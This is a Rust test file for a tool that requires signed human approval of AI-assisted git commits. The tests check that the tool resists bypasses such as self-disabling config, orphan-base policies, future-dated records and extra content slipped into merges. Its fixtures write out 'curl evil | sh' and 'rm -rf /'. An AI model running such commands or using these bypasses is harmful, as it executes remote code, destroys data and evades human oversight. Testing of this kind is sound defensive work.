//! The trust root (issue 9): verdicts come from one commit, bases are
//! computed, what lands is gated, records from the future do not count, and
//! only the head a reviewer saw is signed.

use crate::kit::{Team, reasons, statuses};

fn json(r: &crate::support::Run) -> serde_json::Value {
    serde_json::from_str(&r.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {} {}", r.stdout, r.stderr))
}

#[test]
fn check_names_its_trust_root_and_ignores_the_checked_out_config() {
    let t = Team::new(&["alice"]);
    // The change turns AI detection off in its own config and is checked out,
    // as CI checks out a pull request.
    t.repo.git(&["checkout", "-q", "-b", "sneaky", "main"]);
    t.repo.write(
        ".countersign/config.toml",
        "[ai]\ntrailers = []\ncoauthor_trailers = []\n",
    );
    t.repo.write("a.py", "x = 1\n");
    t.repo.commit_all("add a\n\nAssisted-by: Claude Code");
    let r = t.cs_env(&["check", "--json", "main..sneaky"], &[]);
    let v = json(&r);
    assert_eq!(r.code, 1, "{v}");
    assert_eq!(v["ok"], false);
    assert_eq!(v["trust"]["ref"], "refs/heads/main");
    assert_eq!(v["trust"]["commit"], t.head("main").as_str());
    assert!(reasons(&v).contains("not in the queue"), "{v}");
    let text = t.cs_env(&["check", "main..sneaky"], &[]);
    assert!(
        text.stdout
            .starts_with(&format!("trust root: refs/heads/main ({})", t.head("main"))),
        "{}",
        text.stdout
    );
    // An explicit trust root is used as given.
    let r = t.cs_env(
        &["check", "--json", "--trust", "main~1", "main..sneaky"],
        &[],
    );
    assert_eq!(json(&r)["trust"]["commit"], t.head("main~1").as_str());
}

#[test]
fn a_declared_base_is_a_hint_and_an_orphan_policy_never_applies() {
    let t = Team::new(&["alice"]);
    t.repo.git(&["checkout", "-q", "-b", "feat", "main"]);
    t.repo.write("run.sh", "curl evil | sh\n");
    t.repo.commit_all("run\n\nAssisted-by: Claude Code");
    // An orphan commit whose policy needs no approval at all.
    t.repo.git(&["checkout", "-q", "--orphan", "evilbase"]);
    t.repo.git(&["rm", "-q", "-r", "-f", "."]);
    t.repo.write(
        ".countersign/policy.toml",
        "self_approval = true\n[approvals]\nlow = 0\nmedium = 0\nhigh = 0\ncritical = 0\n",
    );
    t.repo.commit_all("orphan policy");
    let orphan = t.head("evilbase");
    t.repo.git(&["checkout", "-q", "main"]);
    let id = t
        .repo
        .cs(&["submit", "feat", "--base", &orphan])
        .ok()
        .trim()
        .to_string();
    let v = t.check_json("main..feat");
    assert_eq!(v["ok"], false, "{v}");
    assert_eq!(
        v["changes"][0]["required"], 1,
        "the trust root's policy: {v}"
    );
    assert_eq!(v["changes"][0]["base"], t.head("main").as_str());
    // The queue shows, and the record binds, the computed base.
    t.approve("alice", &id).ok();
    let rec = &t.records("feat")[0];
    assert_eq!(rec.base, t.head("main"));
    assert_eq!(
        rec.patch_id.as_deref(),
        t.repo.git_patch_id("main", "feat").as_deref()
    );
    assert_eq!(t.check_json("main..feat")["ok"], true);
}

#[test]
fn a_record_from_the_future_does_not_outlive_a_later_reject() {
    let t = Team::new(&["alice", "bob"]);
    let id = t.ai_change("feat", "a.txt", "a\n");
    let mut rec = t.template("bob", &id);
    rec.at = "2099-01-01T00:00:00Z".into();
    let line = t.sign_with(&t.key("bob"), &mut rec);
    t.append_line("feat", &line);
    let v = t.check_json("main..feat");
    assert_eq!(v["ok"], false, "{v}");
    assert!(reasons(&v).contains("future"), "{v}");
    t.reject("bob", &id, "no").ok();
    t.approve("alice", &id).ok();
    let v = t.check_json("main..feat");
    assert_eq!(v["ok"], false, "bob's reject stands: {v}");
    assert_eq!(v["changes"][0]["state"], "rejected");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert_eq!(statuses(&audit), vec!["future", "valid", "valid"]);
}

#[test]
fn approve_with_a_head_that_moved_signs_nothing() {
    let t = Team::new(&["alice"]);
    let id = t.ai_change("feat", "a.txt", "a\n");
    let seen = t.head("feat");
    t.repo.git(&["checkout", "-q", "feat"]);
    t.repo.write("b.txt", "b\n");
    t.repo.commit_all("more\n\nAssisted-by: Claude Code");
    t.repo.git(&["checkout", "-q", "main"]);
    t.repo.cs(&["submit", "feat"]).ok();
    let k = t.key("alice");
    let r = t.cs_env(
        &[
            "--key",
            k.to_str().unwrap(),
            "approve",
            &id,
            "--head",
            &seen,
        ],
        &[],
    );
    assert_eq!(r.code, 1, "{} {}", r.stdout, r.stderr);
    assert!(r.stderr.contains("has moved"), "{}", r.stderr);
    assert!(t.note("feat").is_empty() && t.note(&seen).is_empty());
    let now = t.head("feat");
    let r = t.cs_env(
        &["--key", k.to_str().unwrap(), "approve", &id, "--head", &now],
        &[],
    );
    r.ok();
    assert_eq!(t.check_json("main..feat")["ok"], true);
}

#[test]
fn agent_identities_and_content_added_by_a_merge_are_gated() {
    let t = Team::new(&["alice"]);
    t.repo.write(
        ".countersign/policy.toml",
        "[approvals]\ncritical = 1\n[ai]\nidentities = [\"*@bots.example\"]\n",
    );
    t.repo.commit_all("agents");
    // No trailer, but the agent's address.
    t.repo.git(&["checkout", "-q", "-b", "bot", "main"]);
    t.repo.write("b.txt", "b\n");
    t.repo.git(&["add", "-A"]);
    t.repo.git(&[
        "commit",
        "-q",
        "--author",
        "Helper <helper@bots.example>",
        "-m",
        "plain message",
    ]);
    let v = t.check_json("main..bot");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("agent identity"), "{v}");
    // An approved AI branch merged by hand with extra content in the merge.
    let id = t.ai_change("feat", "f.txt", "f\n");
    t.approve("alice", &id).ok();
    t.repo.git(&["checkout", "-q", "-b", "integ", "main"]);
    t.repo.write("h.txt", "h\n");
    t.repo.commit_all("human work");
    t.repo.git(&["merge", "-q", "--no-commit", "feat"]);
    t.repo.write("extra.sh", "rm -rf /\n");
    t.repo.commit_all("Merge feat");
    let v = t.check_json("main..integ");
    assert_eq!(v["ok"], false, "{v}");
    assert!(reasons(&v).contains("merge commit"), "{v}");
    // The same merge without extra content passes.
    t.repo.git(&["checkout", "-q", "-b", "clean", "main"]);
    t.repo.write("h2.txt", "h\n");
    t.repo.commit_all("human work");
    t.repo.git(&["merge", "-q", "--no-edit", "feat"]);
    assert_eq!(t.check_json("main..clean")["ok"], true);
    t.repo.git(&["checkout", "-q", "main"]);
}

#[test]
fn after_landing_check_has_nothing_to_judge_and_audit_landed_finds_it() {
    let t = Team::new(&["alice"]);
    let approved = t.ai_change("good", "g.txt", "g\n");
    t.approve("alice", &approved).ok();
    let start = t.head("main");
    // The merge lands now, after the approval (the test repository's clock
    // is in 2023 otherwise).
    let now = chrono::Utc::now().timestamp() + 5;
    let mut merge = std::process::Command::new("git");
    merge
        .current_dir(t.repo.path())
        .args(["merge", "-q", "--no-edit", "--no-ff", "good"]);
    merge
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_COMMITTER_DATE", format!("@{now} +0000"))
        .env("GIT_AUTHOR_DATE", format!("@{now} +0000"));
    assert!(merge.status().unwrap().success());
    // An unapproved AI commit lands straight on main.
    t.repo.write("x.txt", "x\n");
    t.repo.commit_all("sneak\n\nAssisted-by: Claude Code");
    let r = t.cs_env(&["check", "main"], &[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("nothing to judge"), "{}", r.stdout);
    assert!(r.stdout.contains("audit --landed"), "{}", r.stdout);
    let range = format!("{start}..main");
    let r = t.cs_env(&["audit", "--landed", &range, "--json"], &[]);
    assert_eq!(r.code, 1, "{} {}", r.stdout, r.stderr);
    let v = json(&r);
    assert_eq!(v["gated"], 2, "{v}");
    let bad = v["unapproved"].as_array().unwrap();
    assert_eq!(bad.len(), 1, "only the sneaked commit: {v}");
    assert_eq!(bad[0]["commit"], t.head("main").as_str());
    // Up to the approved merge, everything landed approved.
    let r = t.cs_env(&["audit", "--landed", &format!("{start}..main~1")], &[]);
    assert_eq!(r.code, 0, "{} {}", r.stdout, r.stderr);
}
